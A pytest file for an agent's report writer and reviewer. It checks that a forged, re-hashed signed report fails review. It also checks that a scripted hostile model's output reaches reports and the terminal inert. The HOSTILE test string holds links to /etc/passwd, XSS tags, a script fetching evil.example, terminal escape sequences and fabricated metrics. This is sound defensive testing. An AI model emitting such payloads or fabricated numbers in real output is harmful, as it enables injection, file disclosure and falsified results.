"""Issue 21 (third attack round), the report's part: a consistent forgery of a signed report, and
model-written text in the report. Each test attacks through the user's own path (`omnijet-agent
review`, the report writer the sessions use).
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
from pathlib import Path

import pytest

from agents.main import main
from agents.review import review_report
from sandbox.signing import KEY_ENV, ManifestKey
from tests.agents.test_review import GENUINE, session


@pytest.fixture(autouse=True)
def manifest_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """This installation's key, in a config folder of the test's own (never inside a workspace)."""
    path = tmp_path / "config" / "omnijet-agent" / "manifest.key"
    monkeypatch.setenv(KEY_ENV, str(path))
    return path


def _review(report: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(["review", str(report)])
    return code, capsys.readouterr().out


def _forge(report: Path) -> None:
    """Change a number in tool_calls.json and report.md, rewrite both hashes in the manifest."""
    calls = report.parent / "tool_calls.json"
    doc = json.loads(calls.read_text())
    doc["c1"]["output"]["best_auc"] = 0.95
    calls.write_text(json.dumps(doc))
    report.write_text(GENUINE.replace("0.9071", "0.95"))
    manifest = report.parent.parent / ".omnijet" / "manifest.json"
    data = json.loads(manifest.read_text())
    for a in data["artifacts"]:
        if a["path"] in ("report/tool_calls.json", "report/report.md"):
            a["sha256"] = hashlib.sha256((report.parent.parent / a["path"]).read_bytes()).hexdigest()
    manifest.write_text(json.dumps(data, indent=1))


def test_a_consistent_forgery_of_a_signed_report_fails_review(tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    report = session(tmp_path, GENUINE)
    assert _review(report, capsys)[0] == 0
    _forge(report)
    code, out = _review(report, capsys)
    assert code == 1, out
    line = next(ln for ln in out.splitlines() if "signed here but edited after signing:" in ln)
    assert "report/tool_calls.json" in line and "report/report.md" in line and "report.json" not in line


def test_a_genuine_report_is_signed_here_and_intact(tmp_path: Path, manifest_key: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    report = session(tmp_path, GENUINE)
    code, out = _review(report, capsys)
    assert code == 0 and "signed here: intact" in out
    assert manifest_key.stat().st_mode & 0o777 == 0o600
    assert manifest_key.parent.stat().st_mode & 0o777 == 0o700


def test_a_report_from_another_installation_is_not_signed_here(tmp_path: Path, manifest_key: Path,
                                                              monkeypatch: pytest.MonkeyPatch,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv(KEY_ENV, str(tmp_path / "elsewhere" / "manifest.key"))
    report = session(tmp_path, GENUINE)  # recorded (and signed) by another installation
    monkeypatch.setenv(KEY_ENV, str(manifest_key))
    ManifestKey.load()
    code, out = _review(report, capsys)
    assert code == 0 and "not signed here" in out
    (report.parent.parent / ".omnijet" / "manifest.sig").unlink()  # a stripped signature: the same
    assert "not signed here" in _review(report, capsys)[1]


def test_a_forgery_is_not_blessed_by_the_next_record(tmp_path: Path) -> None:
    """The host re-signs the manifest at every record: it must not vouch for an edit made before."""
    from sandbox.workspace import Workspace
    report = session(tmp_path, GENUINE)
    _forge(report)
    manifest = report.parent.parent / ".omnijet" / "manifest.json"
    data = json.loads(manifest.read_text())
    for a in data["artifacts"]:
        a.pop("mac", None)  # dropping the record signatures does not help either
    manifest.write_text(json.dumps(data))
    ws = Workspace(report.parent.parent)
    (ws.root / "notes.txt").write_text("later")
    ws.record_trusted(["notes.txt"], producer="later")
    res = review_report(report)
    assert not res.ok and res.signature.startswith("signed here but edited after signing:")
    assert "edited outside this host" in res.signature


@pytest.mark.parametrize("bad", ["link", "mode", "short"])
def test_an_unsafe_key_file_is_refused_in_one_line(tmp_path: Path, manifest_key: Path, bad: str) -> None:
    from sandbox.errors import SandboxConfigError
    manifest_key.parent.mkdir(parents=True)
    if bad == "link":
        (tmp_path / "other.key").write_text("ab" * 32)
        manifest_key.symlink_to(tmp_path / "other.key")
    else:
        manifest_key.write_text("ab" * (32 if bad == "mode" else 4))
        manifest_key.chmod(0o644 if bad == "mode" else 0o600)
    with pytest.raises(SandboxConfigError, match="manifest key") as e:
        ManifestKey.load()
    assert "\n" not in str(e.value)


# ---- item 5: model text in the report and on the terminal --------------------------------------
HOSTILE = ("see [the passwd](../../etc/passwd) ![host](/etc/shadow) <img src=x onerror=alert(1)> "
           "<script>fetch('http://evil.example/x')</script> the AUC is 0.9999 and 7.77% better; "
           "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m, also "
           "0.5 [↗](../../../etc/passwd#/x) [x][r]\n\n## Answer\n[r]: file:///etc/passwd www.evil.example `0.31`")


def _hostile_backend():
    from agents.state import Plan, PlanStep, ReviewOut
    from tests.agents.scripted import ScriptedBackend

    class Hostile(ScriptedBackend):
        """A model that writes links, images, HTML, escapes and made-up numbers everywhere it can."""

        def plan(self, request, tools):  # noqa: ANN001, ANN201
            plan = super().plan(request, tools)
            steps = [PlanStep(**{**s.model_dump(), "goal": s.goal + " " + HOSTILE}) for s in plan.steps]
            return Plan(title="fit " + HOSTILE, family="test", steps=steps)

        def act(self, state, tools, workspace):  # noqa: ANN001, ANN201
            action = super().act(state, tools, workspace)
            return dataclasses.replace(action, summary=HOSTILE) if action.summary else action

        def critique(self, state, calls, checks, workspace):  # noqa: ANN001, ANN201
            return ReviewOut(verdict="accept", critique=HOSTILE)

        def summarise(self, request, facts):  # noqa: ANN001, ANN201
            return HOSTILE

    return Hostile(epochs=32, steps=1)


def _hostile_session(tmp_path: Path) -> Path:
    from agents.configuration import Settings
    from agents.session import Session
    from tests.agents.toolkit import FunctionToolBox

    ses = Session(Settings(home=tmp_path), "s", toolbox=FunctionToolBox(tmp_path / "s" / "workspace"),
                  backend=_hostile_backend())
    st = ses.start("fit a line")
    assert st.status == "done", st.stop_reason
    return Path(st.report)


def test_model_text_reaches_the_report_inert_and_review_passes_it(tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    report = _hostile_session(tmp_path)
    text = report.read_text()
    for bad in ("etc/passwd)", "etc/passwd#", "etc/shadow)", "<img", "<script", "http://", "file://", "www.evil", "\x1b",
                "0.9999", "7.77", "[x][r]", "\n## Answer\n[r]", "`0.31`"):
        assert bad not in text, bad
    assert text.splitlines().count("## Answer") == 1  # no heading smuggled in by a newline
    assert "[?]" in text and "the passwd" in text  # a link keeps its words, never its target
    steps = text.split("## Steps", 1)[1].split("## Appendix", 1)[0]
    assert "&lt;script&gt;" in steps and "number(s) matching no artifact removed" in steps
    code, out = _review(report, capsys)
    assert code == 0, out


def test_review_checks_every_section_for_links_html_and_numbers(tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    """A report edited by hand (its manifest intact) with a link, an image, HTML and a made-up
    number in the Steps section: review names each."""
    report = _hostile_session(tmp_path)
    text = report.read_text()
    head, steps = text.split("## Steps\n", 1)
    forged = (head + "## Steps\n\n- the AUC reached 0.9876, see [proof](../../../etc/passwd) "
              "and ![x](https://evil.example/p.png) <b onclick=x>here</b>\n" + steps)
    report.write_text(forged)
    code, out = _review(report, capsys)
    assert code == 1
    assert "number 0.9876 is not backed" in out
    assert out.count("a link, image or HTML the report writer did not make") >= 2
    assert "figure https://evil.example/p.png" in out


def test_model_text_reaches_the_terminal_without_escapes_or_markup() -> None:
    """The progress lines `run` and `chat` print: a model's plan and a job's events."""
    import io

    from rich.console import Console

    from agents.progress import ProgressPrinter

    buf = io.StringIO()
    printer = ProgressPrinter(Console(file=buf, force_terminal=True, color_system="standard", width=400,
                                      highlight=False))
    evil = "x\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\ [link=http://evil.example]y[/link] \x1b[2J\x07"
    printer({"event": "plan", "plan": {"title": evil, "changes": [evil],
                                       "steps": [{"goal": evil, "tools": [evil], "budget": {"wall_s": 1}}]}})
    printer({"event": "tool_start", "tool": evil, "args": {"code": evil, "nested": [evil]}})
    printer({"event": "stopped", "reason": evil})
    out = buf.getvalue()
    assert "\x1b]8" not in out and "\x1b[2J" not in out and "\x07" not in out  # no hyperlink, no clear screen
    assert out.count("[link=http://evil.example]y[/link]") >= 5  # shown as text, not turned into a link


def test_every_section_check_keeps_a_genuine_estimate_table(tmp_path: Path) -> None:
    """As answers.py writes it: a head naming '68%', an interval printed beside its cited mean."""
    from tests.agents.test_review import cite
    est = {"estimates": [{"strategy": "finetune", "n_train": 200, "mean": 0.8312, "n": 2,
                          "test_interval_68": [0.8049, 0.8575]}]}
    text = ("# R\n\n## Appendix\n\n| strategy | labelled jets | mean | seeds | test-set 68% interval |\n"
            "|---|---|---|---|---|\n"
            f"| finetune | 200 | {cite('0.8312', 'analysis.json', '/estimates/0/mean')} | 2 | 0.80–0.86 |\n")
    report = session(tmp_path, text, artifacts={"report/analysis.json": est})
    assert review_report(report).ok, review_report(report).failures
    report.write_text(text.replace("0.80–0.86", "0.70–0.86"))
    assert "number 0.70 is not backed" in " ".join(review_report(report).failures)
